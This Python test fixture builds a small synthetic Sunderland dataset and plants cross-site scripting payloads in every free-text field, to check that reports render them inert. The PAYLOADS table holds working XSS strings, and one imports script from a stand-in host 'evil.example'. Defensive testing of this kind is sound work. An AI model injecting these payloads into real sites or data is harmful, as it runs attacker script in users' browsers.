"""A small-area Sunderland for the disclosure tests: the synthetic data at 3% of its size, so that many
ward-level counts are small, with HTML and script planted in every free-text field of the raw data.

:func:`make_small_area` writes ``raw/`` (``lsp-research data synth --scale 0.03``), plants
:data:`PAYLOADS`, copies the indicator registry with payloads in its titles, owners, leads, sources and
definitions, builds ``processed/`` and returns the environment variables that point the project at it.
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import yaml

from lsp_research.config import get_paths

SCALE = 0.03

#: What a partner's file might carry, one per free-text field (each must end up inert).
PAYLOADS = {
    "ward": '<img src=x onerror="alert(1)">',
    "area_committee": '<details open ontoggle="alert(2)">',
    "centre": '<a href="javascript:alert(3)">x</a>',
    "title": "<script>alert(4)</script>",
    "owner": '<svg onload="alert(5)">',
    "lead": '<iframe srcdoc="<script>alert(6)</script>">',
    "source": '<form action="https://evil.example/"><button>go</button></form>',
    "definition": "<img src=x onerror=import('https://evil.example/x.js')>",
    "submitted_by": '<a href="  JAVASCRIPT:alert(7)">partner</a>',
}


def make_small_area(root: Path) -> dict[str, str]:
    """Write the small-area data under ``root`` and return the ``LSP_*`` environment to use it."""
    from lsp_research.cli import main

    raw, processed = root / "raw", root / "processed"
    assert main(["data", "synth", "--scale", str(SCALE), "--out", str(raw)]) == 0
    _plant(raw)
    registry = root / "indicators.yml"
    doc = yaml.safe_load(get_paths().registry.read_text(encoding="utf-8"))
    for i, ind in enumerate(doc["indicators"]):
        for field in ("title", "owner", "lead", "source", "definition"):
            if field in ind or field == "definition":
                ind[field] = f"{ind.get(field, '')} {PAYLOADS[field]} {i}".strip()
    registry.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    env = {
        "LSP_RAW_DIR": str(raw),
        "LSP_PROCESSED_DIR": str(processed),
        "LSP_REPORTS_DIR": str(root / "reports"),
        "LSP_REGISTRY": str(registry),
    }
    return env


def _plant(raw: Path) -> None:
    geo = raw / "geography"
    wards = json.loads((geo / "wards.geojson").read_text(encoding="utf-8"))
    for feature in wards["features"][:3]:
        feature["properties"]["WD09NM"] += " " + PAYLOADS["ward"]
    (geo / "wards.geojson").write_text(json.dumps(wards), encoding="utf-8")

    ac = pd.read_csv(geo / "area_committees.csv")
    first = sorted(ac["area_committee"].unique())[0]
    ac.loc[ac["area_committee"] == first, "area_committee"] = (
        f"{first} {PAYLOADS['area_committee']}"
    )
    ac.to_csv(geo / "area_committees.csv", index=False)

    centres = pd.read_csv(geo / "wellness_centres.csv")
    centres["centre_name"] = centres["centre_name"] + " " + PAYLOADS["centre"]
    centres.to_csv(geo / "wellness_centres.csv", index=False)

    returns = pd.read_csv(raw / "indicators" / "returns.csv")
    returns["submitted_by"] = returns["submitted_by"] + " " + PAYLOADS["submitted_by"]
    returns.to_csv(raw / "indicators" / "returns.csv", index=False)
